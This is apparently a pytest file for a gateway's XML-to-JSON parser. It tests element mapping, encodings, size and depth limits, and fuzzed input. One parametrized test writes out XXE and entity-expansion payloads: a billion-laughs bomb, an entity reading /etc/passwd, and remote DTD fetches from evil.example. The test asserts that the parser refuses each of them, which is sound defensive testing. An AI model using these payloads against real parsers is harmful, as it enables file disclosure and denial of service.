"""XML becomes plain JSON within bounds, and nothing in it is expanded, fetched or followed (T54)."""

from __future__ import annotations

from contextlib import suppress
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from gateway.formats import _xml
from gateway.model import Presented
from resolvers.problems import Invalid
from tests.gateway.proving import FORMATS

LAUGHS = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))


def refusal(content: Any) -> str:
    """Return the code with which XML is refused."""
    with pytest.raises(Invalid) as refused:
        _xml.parse(content)
    return refused.value.problem.code


def test_elements_are_members() -> None:
    """Text is a string, what stands twice an array, an attribute a member with @, whatever the prefixes."""
    text = '<n:a xmlns:n="urn:n" n:k="v"><n:b>one</n:b><b lang="en"> two </b><c/><d>x<e/>y</d></n:a>'
    assert _xml.parse(text) == (
        "a",
        {"@k": "v", "b": ["one", {"@lang": "en", "#text": "two"}], "c": "", "d": {"e": "", "#text": "xy"}},
    )
    assert _xml.parse("<a>text</a>") == ("a", {"#text": "text"})


@pytest.mark.parametrize("encoding", ["utf-8", "utf-16", "iso-8859-1"])
def test_octets_are_read_in_their_encoding(encoding: str) -> None:
    """A file says how it is encoded."""
    octets = f'<?xml version="1.0" encoding="{encoding}"?><a><b>José</b></a>'.encode(encoding)
    assert _xml.parse(octets) == ("a", {"b": "José"})


@pytest.mark.parametrize(
    "text",
    [
        f'<!DOCTYPE a [<!ENTITY l0 "lol">{LAUGHS}]><a>&l9;</a>',
        '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>',
        '<!DOCTYPE a SYSTEM "https://evil.example/a.dtd"><a/>',
        '<!DOCTYPE a [<!ENTITY % p SYSTEM "https://evil.example/p">%p;]><a/>',
        "<!DOCTYPE a><a/>",
    ],
    ids=["billion laughs", "file", "remote DTD", "parameter entity", "empty"],
)
def test_T54_a_document_type_is_refused(text: str) -> None:
    """No entity is expanded and no DTD is read, in any form."""
    assert refusal(text) == "PARSING_ERROR"
    assert refusal(text.encode()) == "PARSING_ERROR"


@pytest.mark.parametrize(
    "content", ["", "<a>", "<a></b>", "<a/><b/>", "text", b"\xff\xfe<", "<a>&undefined;</a>", {}, "<a \x00/>"]
)
def test_what_is_not_well_formed(content: Any) -> None:
    """Anything else is refused in one way."""
    assert refusal(content) == "PARSING_ERROR"


def test_bounds() -> None:
    """Neither depth nor number nor size is without end."""
    assert refusal("<a>" * 65 + "</a>" * 65) == "too-deep"
    assert refusal("<a>" + "<b/>" * _xml.MAX_ELEMENTS + "</a>") == "too-large"
    assert refusal("<a>" + "x" * _xml.MAX_BYTES + "</a>") == "too-large"
    assert refusal("<a>" * 100_000) == "too-deep"


@settings(max_examples=80)
@given(st.text(alphabet="<>/a&;\"'= !?-[]x\n", max_size=60))
def test_any_text_is_read_or_refused(text: str) -> None:
    """No text raises anything else, and no format that reads XML is confused by it."""
    with suppress(Invalid):
        _xml.parse(text)
    for name in ("pesc", "elmo"):
        presented = Presented(content=text)
        with suppress(Invalid):
            assert FORMATS[name].recognize(presented) in (True, False)
            FORMATS[name].parse(presented)


@pytest.mark.parametrize(
    ("content", "root"),
    [
        ('<?xml version="1.0"?><!-- a --><elmo x="y">', "elmo"),
        (b"\xef\xbb\xbf<elmo>", "elmo"),
        ("\ufeff <e:elmo>", "elmo"),
        ("<!DOCTYPE elmo [<!ENTITY a 'b'>]><elmo>", "elmo"),
        ("a.b.c", None),
        ("{}", None),
        ({}, None),
        (b"\x89PNG", None),
        ("<" * 5000, None),
    ],
    ids=str,
)
def test_the_root_as_it_seems_to_be(content: Any, root: str | None) -> None:
    """Whose the record is, is told by its first element alone."""
    found = _xml.peek_root(content)
    assert (None if found is None else found[0]) == root
